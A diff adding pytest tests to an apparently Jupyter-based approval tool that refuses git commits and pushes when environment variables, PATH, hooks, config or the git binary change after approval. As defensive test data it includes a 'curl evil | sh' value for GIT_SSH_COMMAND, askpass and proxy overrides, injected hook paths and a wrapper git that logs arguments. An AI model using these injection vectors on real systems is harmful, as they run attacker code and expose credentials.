@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import functools
 import http.server
+import os
+import shutil
 import socket
 import subprocess
 import threading
@@ -14,7 +16,7 @@ import pytest
 
 import jupyter_approvals as ja
 from jupyter_approvals.core import errors
-from jupyter_approvals.ops._preview import PREVIEW_BUDGET
+from jupyter_approvals.ops._preview import PREVIEW_BUDGET, TAIL_RESERVE
 from jupyter_approvals.ops.git import (
     GitCommandFailed,
     GitCommitDiffers,
@@ -557,7 +559,7 @@ def test_a_remote_asking_for_a_password_fails_instead_of_prompting(session, repo
 
 def test_a_remote_that_never_answers_is_given_up_on(session, repo, monkeypatch):
     # Given a remote that accepts connections and never answers, and a 1 s limit
-    monkeypatch.setattr("jupyter_approvals.ops.git.REMOTE_SECONDS", 1.0)
+    monkeypatch.setattr("jupyter_approvals.ops.git_push_op.REMOTE_SECONDS", 1.0)
     with socket.socket() as silent:
         silent.bind(("127.0.0.1", 0))
         silent.listen()
@@ -567,3 +569,228 @@ def test_a_remote_that_never_answers_is_given_up_on(session, repo, monkeypatch):
         # Then git is stopped at the limit and the call is refused
         with pytest.raises(errors.ApprovalInvalidArgument, match="did not finish within 1 s"):
             git_push("silent", repo=repo)
+
+
+# -- what steers git besides the repository: environment, program, config ----------------
+
+
+def hook_dir(tmp_path: Path, name: str, marker: Path) -> Path:
+    """A hooks directory whose ``name`` hook leaves ``marker`` behind when it runs."""
+    hooks = tmp_path / "evil-hooks"
+    hooks.mkdir(exist_ok=True)
+    hook = hooks / name
+    hook.write_text(f"#!/bin/sh\ntouch '{marker}'\n")
+    hook.chmod(0o755)
+    return hooks
+
+
+@pytest.mark.parametrize(
+    "variables",
+    [
+        {"GIT_SSH_COMMAND": "sh -c 'curl evil | sh'"},
+        {"GIT_CONFIG_PARAMETERS": "'core.sshcommand'='sh -c evil'"},
+        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.askpass", "GIT_CONFIG_VALUE_0": "x"},
+        {"GIT_ASKPASS": "/tmp/askpass"},
+        {"SSH_ASKPASS": "/tmp/askpass"},
+        {"GIT_PROXY_COMMAND": "/tmp/proxy"},
+        {"https_proxy": "http://proxy.invalid:3128"},
+        {"ALL_PROXY": "socks5://proxy.invalid:1080"},
+        {"LD_LIBRARY_PATH": "/nonexistent"},
+        {"XDG_CONFIG_HOME": "/nonexistent"},
+    ],
+    ids=lambda variables: "+".join(variables),
+)
+def test_a_git_variable_set_after_approval_refuses_the_push(
+    session, repo, origin, monkeypatch, variables
+):
+    # Given an approved push
+    commit(repo, "a.txt", "a\n", "Add a")
+    before = git(origin, "rev-parse", "main")
+    approve(session, lambda: git_push(repo=repo))
+    # When a variable that steers git is set in the kernel's environment afterwards
+    for name, value in variables.items():
+        monkeypatch.setenv(name, value)
+    # Then the run refuses: the environment is part of what was approved
+    with pytest.raises(errors.ApprovalFingerprintMismatch):
+        git_push(repo=repo)
+    assert git(origin, "rev-parse", "main") == before
+
+
+def test_a_changed_path_refuses_the_push(session, repo, origin, tmp_path, monkeypatch):
+    # Given an approved push
+    commit(repo, "a.txt", "a\n", "Add a")
+    before = git(origin, "rev-parse", "main")
+    approve(session, lambda: git_push(repo=repo))
+    # When a directory is put in front of PATH afterwards (the same git is still found)
+    extra = tmp_path / "extra-bin"
+    extra.mkdir()
+    monkeypatch.setenv("PATH", f"{extra}:{os.environ['PATH']}")
+    # Then the run refuses
+    with pytest.raises(errors.ApprovalFingerprintMismatch):
+        git_push(repo=repo)
+    assert git(origin, "rev-parse", "main") == before
+
+
+def test_a_hooks_path_set_by_environment_after_approval_refuses_the_commit(
+    session, repo, tmp_path, monkeypatch
+):
+    # Given an approved commit
+    stage(repo, "data.csv", "a,b\n")
+    before = clean_head(repo)
+    approve(session, lambda: git_commit("Add data", repo=repo))
+    # When core.hooksPath is pointed at another hook through GIT_CONFIG_COUNT/KEY/VALUE
+    marker = tmp_path / "hook-ran"
+    hooks = hook_dir(tmp_path, "pre-commit", marker)
+    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
+    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.hooksPath")
+    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(hooks))
+    # Then the run refuses, the hook never runs and nothing is committed
+    with pytest.raises(errors.ApprovalFingerprintMismatch):
+        git_commit("Add data", repo=repo)
+    assert not marker.exists()
+    assert clean_head(repo) == before
+
+
+def test_a_hooks_path_configured_after_approval_refuses_the_push(session, repo, origin, tmp_path):
+    # Given an approved push
+    commit(repo, "a.txt", "a\n", "Add a")
+    before = git(origin, "rev-parse", "main")
+    approve(session, lambda: git_push(repo=repo))
+    # When the repository's config points core.hooksPath at a pre-push hook
+    marker = tmp_path / "hook-ran"
+    git(repo, "config", "core.hooksPath", str(hook_dir(tmp_path, "pre-push", marker)))
+    # Then the run refuses and the hook never runs
+    with pytest.raises(errors.ApprovalFingerprintMismatch):
+        git_push(repo=repo)
+    assert not marker.exists()
+    assert git(origin, "rev-parse", "main") == before
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("remote.origin.receivepack", "git-receive-pack"),
+        ("url.file:///elsewhere.insteadOf", "file:///nowhere"),
+        ("credential.helper", "store"),
+    ],
+)
+def test_remote_config_changed_after_approval_refuses_the_push(session, repo, origin, key, value):
+    # Given an approved push
+    commit(repo, "a.txt", "a\n", "Add a")
+    before = git(origin, "rev-parse", "main")
+    approve(session, lambda: git_push(repo=repo))
+    # When config that steers where or how the push goes is added (the URL itself unchanged)
+    git(repo, "config", key, value)
+    # Then the run refuses
+    with pytest.raises(errors.ApprovalFingerprintMismatch):
+        git_push(repo=repo)
+    assert git(origin, "rev-parse", "main") == before
+
+
+def test_a_changed_git_program_refuses_the_commit(session, repo, tmp_path, monkeypatch):
+    # Given a git on PATH that is a wrapper around the real one, and an approved commit
+    real = shutil.which("git")
+    assert real is not None
+    wrapper_dir = tmp_path / "wrapper-bin"
+    wrapper_dir.mkdir()
+    wrapper = wrapper_dir / "git"
+    wrapper.write_text(f'#!/bin/sh\nexec "{real}" "$@"\n')
+    wrapper.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{wrapper_dir}:{os.environ['PATH']}")
+    stage(repo, "data.csv", "a,b\n")
+    before = clean_head(repo)
+    approve(session, lambda: git_commit("Add data", repo=repo))
+    # When the program at the same path is replaced afterwards by one that logs its arguments
+    log = tmp_path / "wrapper.log"
+    wrapper.write_text(f'#!/bin/sh\necho "$@" >> \'{log}\'\nexec "{real}" "$@"\n')
+    # Then the run refuses before committing: the new program only read the repository
+    with pytest.raises(errors.ApprovalFingerprintMismatch):
+        git_commit("Add data", repo=repo)
+    assert log.exists()
+    assert " commit " not in log.read_text()
+    assert clean_head(repo) == before
+
+
+def test_the_cards_name_the_git_variables_that_are_set(session, repo, monkeypatch):
+    # Given git-steering variables in the kernel's environment, one with a secret-looking name
+    monkeypatch.setenv("GIT_SSH_COMMAND", "ssh -i /keys/deploy")
+    monkeypatch.setenv("GIT_ACCESS_TOKEN", "s3cret-token")
+    monkeypatch.setenv("https_proxy", "http://ada:s3cret-pw@proxy.example:3128")
+    monkeypatch.setenv(
+        "GIT_CONFIG_PARAMETERS",
+        "'core.sshcommand'='ssh -v' 'http.extraheader'='Authorization: s3cret'",
+    )
+    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
+    monkeypatch.setenv("GIT_CONFIG_KEY_0", "http.extraHeader")
+    monkeypatch.setenv("GIT_CONFIG_VALUE_0", "Authorization: Bearer s3cret")
+    commit(repo, "a.txt", "a\n", "Add a")
+    stage(repo, "b.txt", "b\n")
+    # When a push and a commit are asked for
+    cards = [
+        request_of(session, ask(lambda: git_push(repo=repo))).preview,
+        request_of(session, ask(lambda: git_commit("Add b", repo=repo))).preview,
+    ]
+    # Then each card lists them, without any secret, and leaves out the ordinary ones
+    for preview in cards:
+        assert "  environment: GIT_SSH_COMMAND=ssh -i /keys/deploy" in preview
+        assert "  environment: GIT_ACCESS_TOKEN (value hidden)" in preview
+        assert "  environment: https_proxy=http://***@proxy.example:3128" in preview
+        assert (
+            "  environment: GIT_CONFIG_PARAMETERS sets core.sshcommand=ssh -v, "
+            "http.extraheader (value hidden)" in preview
+        )
+        assert "  environment: GIT_CONFIG_KEY_0=http.extraHeader" in preview
+        assert "  environment: GIT_CONFIG_VALUE_0 (value hidden)" in preview
+        assert "s3cret" not in preview
+        assert "environment: PATH" not in preview
+        assert "environment: GIT_CONFIG_GLOBAL=/dev/null" in preview
+
+
+# -- commit messages are compared exactly -------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "message",
+    ["Fix thing  ", "Fix thing\n\n", "  Indented subject\n\nbody with tab\t\n\n\n", "Tab\t"],
+)
+def test_a_message_with_surrounding_whitespace_is_committed_verbatim(session, repo, message):
+    # Given a staged change and a message that ends (or starts) with whitespace
+    stage(repo, "data.csv", "a,b\n")
+    approve(session, lambda: git_commit(message, repo=repo))
+    # When the approved commit runs
+    sha = git_commit(message, repo=repo)
+    # Then it succeeds and the message is stored exactly (git adds one newline if none)
+    raw = subprocess.run(
+        ["git", "-C", str(repo), "cat-file", "commit", sha], check=True, capture_output=True
+    ).stdout
+    expected = message if message.endswith("\n") else message + "\n"
+    assert raw.split(b"\n\n", 1)[1] == expected.encode()
+
+
+def test_a_hook_that_only_adds_trailing_whitespace_is_reported(session, repo):
+    # Given a commit-msg hook that appends spaces to the message's last line
+    hook = repo / ".git" / "hooks" / "commit-msg"
+    hook.write_text("#!/bin/sh\nprintf 'Add data   \\n' > \"$1\"\n")
+    hook.chmod(0o755)
+    stage(repo, "data.csv", "a,b\n")
+    approve(session, lambda: git_commit("Add data", repo=repo))
+    # When the approved commit runs
+    # Then the changed message is reported
+    with pytest.raises(GitCommitDiffers, match="its message is not the approved message"):
+        git_commit("Add data", repo=repo)
+
+
+# -- previews use their whole budget --------------------------------------------------------
+
+
+def test_the_commit_preview_fills_its_budget_before_cutting(session, repo):
+    # Given far more staged files than a card can list
+    for i in range(2000):
+        (repo / f"f{i:05d}.txt").write_text("x\n")
+    git(repo, "add", ".")
+    # When the commit is asked for
+    preview = request_of(session, ask(lambda: git_commit("Many", repo=repo))).preview
+    # Then the listing runs up to the budget less PreviewText's own reserve for its closing lines
+    kept = preview.split("\n… ", 1)[0]
+    assert PREVIEW_BUDGET - TAIL_RESERVE - 100 < len(kept) <= PREVIEW_BUDGET - TAIL_RESERVE
+    assert len(preview) <= PREVIEW_BUDGET
